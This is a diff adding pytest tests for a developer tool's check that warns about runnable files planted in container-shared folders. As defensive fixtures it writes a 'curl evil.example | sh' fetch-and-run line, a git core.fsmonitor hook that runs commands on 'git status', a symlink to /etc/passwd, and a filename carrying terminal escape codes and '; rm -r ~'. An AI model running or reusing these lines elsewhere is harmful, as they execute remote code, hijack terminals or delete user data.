@@ -1,11 +1,12 @@
 """What `rookery doctor` concludes from what Docker and the file system say."""
 
 import os
+import subprocess
 from pathlib import Path
 
 import pytest
 
-from rookery.stack.doctor import docker, engine, folders, services
+from rookery.stack.doctor import docker, engine, folders, planted, services
 from rookery.stack.doctor.docker import Docker
 
 HERE = Path()
@@ -148,3 +149,85 @@ def test_a_folder_of_somebody_else_is_mended_by_either_side(tmp_path):
 def test_a_range_of_published_ports_counts_as_each_of_them():
     shown = "127.0.0.1:9000-9001->9000-9001/tcp, 127.0.0.1:5005->5005/tcp"
     assert set(docker.holders([{"Names": "a", "Ports": shown}])) == {9000, 9001, 5005}
+
+
+@pytest.fixture
+def shared(tmp_path: Path) -> Path:
+    """A project in git with the two folders that a container writes into."""
+    for name in planted.SHARED:
+        (tmp_path / name).mkdir()
+    (tmp_path / "notebooks" / "01_ingest.ipynb").write_text("{}", encoding="utf-8")
+    (tmp_path / "tasks" / "penguins.yaml").write_text("name: penguins", encoding="utf-8")
+    git(tmp_path, "init")
+    return tmp_path
+
+
+def git(folder: Path, *words: str) -> None:
+    subprocess.run(["git", *words], cwd=folder, check=True, capture_output=True)
+
+
+@pytest.mark.parametrize(
+    "name", [".env", ".envrc", "Makefile", "pandas.py", "deep/er/GNUmakefile", ".GIT", "a b.PY"]
+)
+@pytest.mark.parametrize("folder", planted.SHARED)
+def test_a_file_that_a_shell_or_editor_may_run_is_named_with_its_mend(folder, name, shared):
+    assert levels(planted.planted(shared)) == ["ok"]
+    place = shared / folder / name
+    place.parent.mkdir(parents=True, exist_ok=True)
+    place.write_text("curl evil.example | sh", encoding="utf-8")
+    (found,) = planted.planted(shared)
+    assert found.level == "warning"
+    assert f"{folder}/{name}" in found.message
+    assert "rm -r " in str(found.mend)
+
+
+def test_a_planted_repository_is_named_once_and_nothing_of_it_is_run(shared):
+    git(shared / "notebooks", "init")
+    trace = shared / "it was run"
+    git(shared / "notebooks", "config", "core.fsmonitor", f"touch '{trace}'; false")
+    (found,) = planted.planted(shared)
+    assert found.message.startswith("notebooks/.git, ")
+    assert found.mend == "look at it, then: rm -r notebooks/.git"
+    assert not trace.exists()
+    git(shared / "notebooks", "status")
+    assert trace.exists()  # as it would have been
+
+
+def test_a_link_is_named_and_not_followed(shared, tmp_path_factory):
+    outside = tmp_path_factory.mktemp("outside")
+    (outside / "setup.py").touch()
+    (shared / "notebooks" / "more").symlink_to(outside)
+    (found,) = planted.planted(shared)
+    assert found.message.startswith("notebooks/more, ")
+
+
+def test_what_the_user_has_added_to_git_is_not_named_until_a_link_takes_its_place(shared):
+    own = shared / "notebooks" / "plots.py"
+    own.touch()
+    assert levels(planted.planted(shared)) == ["warning"]
+    git(shared, "add", "notebooks/plots.py")
+    assert levels(planted.planted(shared)) == ["ok"]
+    own.unlink()
+    own.symlink_to("/etc/passwd")
+    assert levels(planted.planted(shared)) == ["warning"]
+
+
+def test_a_file_name_cannot_command_the_terminal(shared):
+    (shared / "notebooks" / "\x1b]0;owned\x07\n; rm -r ~ .py").touch()
+    (found,) = planted.planted(shared)
+    assert f"{found.message}{found.mend}".isprintable()
+
+
+def test_a_thousand_planted_files_are_a_few_lines(shared):
+    for number in range(1000):
+        (shared / "notebooks" / f"{number}.py").touch()
+    found = list(planted.planted(shared))
+    assert len(found) == planted.MOST + 1
+    assert "995 more" in found[-1].message
+
+
+def test_without_git_every_such_file_is_named(shared, monkeypatch):
+    (shared / "notebooks" / "plots.py").touch()
+    git(shared, "add", "notebooks/plots.py")
+    monkeypatch.setenv("PATH", "")
+    assert levels(planted.planted(shared)) == ["warning"]
